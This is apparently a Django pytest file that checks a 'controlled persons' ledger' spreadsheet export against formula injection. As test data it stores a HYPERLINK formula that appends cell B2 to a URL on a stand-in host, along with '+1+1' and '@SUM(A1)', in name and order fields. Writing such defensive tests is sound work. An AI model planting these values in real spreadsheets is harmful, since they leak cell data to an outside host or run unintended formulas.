"""The controlled persons' ledger export (管控对象台账) writes ledger texts as text (issue 9, A2)."""

from io import BytesIO

import pytest

from conftest import idno
from gridguard.control import services
from gridguard.control.exports import order_export
from gridguard.control.models import ControlOrder
from gridguard.core.tests.test_xlsx import assert_no_formula
from gridguard.people.models import Person
from gridguard.people.services import person_register

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://x"&B2,"点击核对")'


def test_a_verified_arrival_named_like_a_formula_is_exported_as_text(town, admin_user, alice):
    person = person_register(actor=admin_user, data={"name": "张三", "id_number": idno(1980, 11)}, node=town.a1)
    order = services.order_create(actor=admin_user, person=person, category="secondary_contact", measure="home")
    # as an anonymous arrival report could have named the person before names were checked at input
    Person.objects.filter(pk=person.pk).update(name=LINK)
    ControlOrder.objects.filter(pk=order.pk).update(source="+1+1", place="@SUM(A1)")
    out = BytesIO()
    order_export(actor=alice, out=out)
    assert_no_formula(out.getvalue(), [LINK, "+1+1", "@SUM(A1)"])
